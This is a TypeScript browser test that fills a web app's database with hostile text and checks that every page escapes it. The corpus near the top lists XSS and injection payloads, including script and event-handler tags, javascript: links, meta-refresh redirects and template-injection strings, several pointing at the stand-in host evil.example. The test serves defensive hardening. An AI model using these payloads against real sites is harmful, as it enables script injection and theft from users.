import type { RequestListener } from 'node:http';
import { afterAll, beforeAll, expect, it } from '@jest/globals';
import { schema } from '@acp/db';
import type { Database } from '@acp/db';
import { getTableConfig, PgTable } from 'drizzle-orm/pg-core';
import { eq, sql } from 'drizzle-orm';
import type { Page } from 'playwright-core';
import { uiPages } from '../../apps/web/src/ui/pages.ts';
import { createStage, pathOn, type Stage } from '../http/stage.ts';
import { complaintsOf, excessWidth, inBrowser, without } from './chromium.ts';
import { showPages, type Shown } from './shown.ts';

// Each would set `pwned`, prompt the user, load from elsewhere, or change the look of the page.
const corpus = [
  '<script>globalThis.pwned=1</script>',
  '"><script src=//evil.example/x.js></script>',
  `'"><img src=//evil.example/x.png onerror=globalThis.pwned=2>`,
  '<svg onload=globalThis.pwned=3><animate onbegin=globalThis.pwned=4 attributeName=x dur=1s>',
  '</textarea></select></title></style><iframe srcdoc="<script>parent.pwned=5</script>"></iframe>',
  '[click](javascript:globalThis.pwned=6) ![i](//evil.example/y.png) <javascript:alert(7)>',
  '[x](data:text/html,<script>alert(8)</script>) <a href="&#106;avascript:alert(9)">x</a>',
  '<base href=//evil.example/><meta http-equiv=refresh content="0;url=//evil.example/">',
  '<form action=//evil.example/><button formaction=javascript:alert(10)>x</button></form>',
  '<div hx-get=//evil.example/ hx-trigger=load data-live=runs data-source=//evil.example/></div>',
  '<link rel=stylesheet href=//evil.example/z.css><style>*{display:none}</style>',
  '{{constructor.constructor("pwned=11")()}} ${globalThis.pwned=12} !${globalThis.pwned=13}',
  '\u202Egnp.exe\u202C \u0000'.replaceAll('\u0000', '') + '\u2028\u2029<!-- --!> ]]> %3Cscript%3E',
  `${'W'.repeat(400)} ${'\u{1F600}'.repeat(100)} Z${'\u0301'.repeat(200)}`,
];
const MARKER = 'globalThis.pwned=1</script>';

// Every column that someone outside can write free text into.
const freeText = new Set(
  `name title description body body_markdown label message display_name filename color model summary error note reason
   blocked_reason pause_reason decision_note apply_error last_error extracted_text title_template body_template
   system_prompt session_id session_cwd home_dir spawn_reason author_label actor_name trigger_detail`.split(
    /\s+/,
  ),
);
const links = new Set(['repo_url', 'url', 'module_endpoint', 'base_url']);
const documents = new Set(['details', 'payload', 'metadata']);

// Every text that a page reads from a JSON column.
const told = Object.fromEntries(
  'kind text message status verb args result error title reason system_prompt messages'
    .split(' ')
    .map((name) => [name, corpus.join('\n')]),
);

const front = { name: corpus[0], description: corpus.slice(0, 8).join(' ') };
const skill = `---\nname: ${JSON.stringify(front.name)}\ndescription: ${JSON.stringify(front.description)}\n---\n${corpus.join('\n')}`;

/** Overwrites all text in the database with the corpus. */
async function poison(database: Database): Promise<number> {
  let columns = 0;
  for (const table of Object.values(schema)) {
    if (!(table instanceof PgTable)) continue;
    const config = getTableConfig(table);
    const sets = config.columns.flatMap((column) => {
      const name = sql.identifier(column.name);
      const type = column.getSQLType();
      if (type === 'jsonb' && documents.has(column.name))
        return [sql`${name} = ${JSON.stringify(told)}::jsonb`];
      if (type !== 'text') return [];
      // The only text read by a program, so it must stay valid.
      if (column.name === 'content') return [sql`${name} = ${skill}`];
      // Stays unique.
      if (freeText.has(column.name)) return [sql`${name} = ${corpus.join('\n')} || left(${name}, 50)`];
      return links.has(column.name) ? [sql`${name} = 'javascript:globalThis.pwned=20'`] : [];
    });
    if (sets.length === 0) continue;
    columns += sets.length;
    await database.db.execute(sql`update ${table} set ${sql.join(sets, sql`, `)}`);
  }
  return columns;
}

/**
 * The stage has no live stream, and one that ends would be requested again later; its logo is a row without bytes; and a fragment that
 * is fetched on its own names no icon. They are answered here and not by the debugger, through which every request would pass.
 */
const beside =
  (app: RequestListener): RequestListener =>
  (request, response) => {
    const { url = '' } = request;
    if (url.startsWith('/api/live/events'))
      response.setHeader('content-type', 'text/event-stream').end('retry: 60000\n\n');
    else if (url.includes('/logo/image'))
      response.setHeader('content-type', 'image/svg+xml').end('<svg xmlns="http://www.w3.org/2000/svg" />');
    else if (url === '/favicon.ico') response.writeHead(204).end();
    else app(request, response);
  };

inBrowser(`pages full of hostile text${without}`, () => {
  let shown: Shown;
  let page: Page;
  let stage: Stage;
  let poisoned = 0;
  let complaints: string[] = [];
  const foreign: string[] = [];
  const dialogs: string[] = [];

  beforeAll(async () => {
    shown = await showPages({ serve: beside });
    const { database, cast, origin } = shown;
    stage = { ...(await createStage(database, cast)), part: 'runs' };
    const kinds = ['status', 'prompt', 'output', 'action', 'tool', 'log', 'error'];
    const run_id = stage.runId!;
    const [run] = await database.db
      .select({ part: schema.heartbeat_runs.transcript_part })
      .from(schema.heartbeat_runs)
      .where(eq(schema.heartbeat_runs.id, run_id));
    await database.db
      .insert(schema.run_events)
      .values(kinds.map((kind, seq) => ({ run_id, ...run, seq: seq + 1, kind, payload: told })));
    poisoned = await poison(database);
    const context = await shown.windowOf(cast.instance_admin, { viewport: { width: 390, height: 800 } });
    page = await context.newPage();
    complaints = complaintsOf(page);
    page.on('request', (request) => {
      if (!request.url().startsWith(`${origin}/`)) foreign.push(request.url());
    });
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
  });

  afterAll(() => shown?.close());

  const paths = uiPages.filter((route) => route.kind === 'page').map((route) => [route.path, route] as const);

  it.each(paths)(
    '%s runs none of it, asks nobody else, and is no wider than a phone',
    async (_path, route) => {
      const response = await page.goto(pathOn(stage, route), { waitUntil: 'load' });
      expect(response?.status()).toBe(200);
      expect(await page.evaluate('globalThis.pwned')).toBeUndefined();
      expect(
        await page.evaluate<number>(
          `document.querySelectorAll('iframe, base, style, object, meta[http-equiv], [onerror], [onload], [hx-get]').length`,
        ),
      ).toBe(0);
      expect(
        await page.evaluate<string[]>(
          `[...document.querySelectorAll('a[href], form[action], button[formaction]')]
           .map((each) => each.href ?? each.formAction ?? each.action)
           .filter((url) => !/^(https?|mailto):/.test(url) || url.includes('evil.example/x'))`,
        ),
      ).toEqual([]);
      // A fragment that is fetched on its own has no style sheet.
      const styled = (await page.locator('main').count()) === 1;
      expect(styled ? await excessWidth(page) : 0).toBe(0);
      expect({ foreign, dialogs, complaints }).toEqual({ foreign: [], dialogs: [], complaints: [] });
    },
  );

  it('shows the text as it was written', async () => {
    await page.goto(pathOn(stage, { path: '/issues/{issueId}', scope: { by: 'issue', param: 'issueId' } }));
    expect(await page.innerText('h1')).toContain(MARKER);
    expect(poisoned).toBeGreaterThan(40);
  });
});
